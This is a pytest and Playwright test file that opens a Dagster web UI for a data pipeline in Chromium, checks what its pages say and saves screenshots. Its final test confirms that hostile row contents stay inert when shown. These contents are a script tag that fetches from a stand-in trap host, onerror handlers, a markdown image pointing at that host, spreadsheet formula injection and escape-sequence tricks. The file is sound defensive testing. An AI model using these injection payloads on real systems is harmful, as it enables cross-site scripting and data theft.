"""The Dagster UI in a real browser: what a person reads on it, and that rows do nothing on it.

Screenshots go to the folder DATAFLOW_SCREENSHOTS, by default to pytest's own temporary folder.
"""

import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from dataflow_assets_tests.dagster_side.webserver import LOCATION
from dataflow_assets_tests.ui.browser import CHROMIUM, chromium_is_there
from dataflow_assets_tests.ui.deployment import Deployment
from dataflow_assets_tests.ui.shop import TRAP

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not chromium_is_there(), reason=f"there is no Chromium at {CHROMIUM}"),
]
_WAIT_MS = 60_000
_PLANTED = f"a[href*='{TRAP}'], img[src*='{TRAP}'], iframe[src*='{TRAP}'], a[href^='javascript']"
_HOSTILE_PAGES = [
    ("/assets/shop/source?view=overview", "onerror=alert"),
    ("/assets/shop/lower?view=partitions&partition=reviews_b00000", "onerror=alert"),
    ("/assets/shop/words?view=partitions&partition=reviews_b00000", "onerror=alert"),
    ("/assets/shop/scored?view=partitions&partition=reviews_b00003", "<b>a bad"),
]
_SAYS = """text => document.body.innerText.replaceAll("\\u200b", "").replace(/\\s+/g, " ").includes(text)"""
_CODE = LOCATION["repositoryLocationName"]


class Screen(NamedTuple):
    """A page of the browser, what went wrong on it, and where its pictures go."""

    page: "playwright.Page"
    url: str
    folder: Path
    incidents: list[str]

    def open(self, path: str, *texts: str, height: int = 1000) -> str:
        """Opens a page, waits until it says all texts; its whole text."""
        self.page.set_viewport_size({"width": 1500, "height": height})
        self.page.goto(self.url + path)
        self.says(*texts)
        return self.page.inner_text("body").replace("\u200b", "")

    def says(self, *texts: str) -> None:
        """Waits until the page says each of these, whatever white space is within: parts come one by one."""
        for text in texts:
            try:
                self.page.wait_for_function(_SAYS, arg=re.sub(r"\s+", " ", text), timeout=_WAIT_MS)
            except playwright.TimeoutError:
                pytest.fail(f"{text!r} is not in: {self.page.inner_text('body')}")

    def picture(self, name: str) -> None:
        """Keeps what is seen now."""
        self.page.screenshot(path=str(self.folder / f"{name}.png"))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the pictures go."""
    named = os.environ.get("DATAFLOW_SCREENSHOTS")
    folder = Path(named) if named else tmp_path_factory.mktemp("screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture(scope="module")
def screen(shop: Deployment, folder: Path) -> Iterator[Screen]:
    """A browser at the server."""
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        incidents: list[str] = []
        page.on("dialog", lambda dialog: (incidents.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: incidents.append(request.url) if TRAP in request.url else None)
        page.on("popup", lambda popup: incidents.append(f"popup {popup.url}"))
        yield Screen(page, shop.server.url.removesuffix("/graphql"), folder, incidents)
        browser.close()


def test_the_graph_of_a_pipeline(screen: Screen) -> None:
    screen.open(f"/locations/{_CODE}/asset-groups/shop/lineage", "source", "unique_state", "scored")
    screen.picture("graph")
    screen.open("/assets/shop/unique?view=lineage", "long-enough", "100% filled", "Parquet")
    screen.says("jsonl", "filters", "deduplication", "1 / 2 Passed")
    screen.picture("neighbours")


def test_the_page_of_a_step(screen: Screen) -> None:
    wanted = ["Collapses white space", "␣␣", "shop_watch"]
    screen.open("/assets/shop/tidy?view=overview", *wanted, height=2200)
    screen.says(
        "Step 2, normalize_whitespace: Collapses white space",
        "Spaces between two Han characters",  # the meaning of a parameter
        "The text column. Changed by step 2, tidy (normalize_whitespace).",
        "ada@example.org",
        "shop.yaml",
        "before_and_after",
    )
    screen.picture("asset")


def test_the_page_of_a_filter_says_why_rows_went(screen: Screen) -> None:
    screen.open("/assets/shop/long-enough?view=overview", "For example:", height=2200)
    screen.says("too_short", "drop_reasons")
    screen.picture("filter")


def test_the_plots_of_a_step(screen: Screen) -> None:
    screen.open("/assets/shop/tidy?view=overview", "Plots", height=1400)
    screen.page.get_by_text("Plots").first.click()
    screen.page.get_by_text("rows_per_second").first.wait_for(state="visible", timeout=_WAIT_MS)
    screen.page.locator("canvas").first.wait_for(state="visible", timeout=_WAIT_MS)
    screen.picture("plots")


def test_the_checks_of_a_step(screen: Screen) -> None:
    screen.open("/assets/shop/long-enough?view=checks", "keep_rate", "null_rate_text", "Failed")
    screen.says("min_keep_rate", "0.99")
    screen.picture("checks")


def test_a_batch_of_a_step(screen: Screen) -> None:
    partition = "/assets/shop/lower?view=partitions&partition=reviews_b00000"
    screen.open(partition, "before_and_after", "generation", "onerror", height=1800)
    screen.says("dagster/row_count", "reviews_b00003")
    screen.picture("batch")


@pytest.mark.parametrize(
    ("job", "words"),
    [
        ("shop_run", "Make every batch again, whatever is committed or answered."),
        ("shop_export", "its ending says the format"),
        ("shop_retry_failed", "Only rows with these error classes"),
    ],
)
def test_a_launch_form_explains_itself(screen: Screen, job: str, words: str) -> None:
    screen.open(f"/locations/{_CODE}/jobs/{job}/playground", "Launch Run", words.split(",")[0][:20])
    screen.says(words)
    screen.picture(f"form_{job}")
    assert "env:" not in screen.page.inner_text("body")


def test_what_a_job_says_of_itself(screen: Screen) -> None:
    screen.open(f"/locations/{_CODE}/jobs/shop_run", "shop_run_op")
    screen.says("dataflow-assets run shop")
    screen.picture("job")


def test_sensors_and_schedules(screen: Screen) -> None:
    screen.open("/automation", "shop_watch", height=2600)
    screen.says("shop_watch", "shop_resume_after_crash", "shop_daily")
    screen.picture("automation")


def test_rows_do_nothing_where_they_are_shown(screen: Screen) -> None:
    texts = []
    for number, (path, rendered) in enumerate(_HOSTILE_PAGES):
        texts.append(screen.open(path, rendered, height=2400))
        screen.picture(f"hostile_{number}")
        assert screen.page.locator(_PLANTED).count() == 0
    shown = re.sub(r"\s+", "", texts[0])
    assert f"<script>alert(1);fetch('http://{TRAP}/script')</script>" in shown
    assert f"![picture](http://{TRAP}/markdown.png)" in shown
    assert "=HYPERLINK(1+1)" in shown and r"\x1b[31mred" in shown and r"\u202ertl" in shown
    assert screen.incidents == []
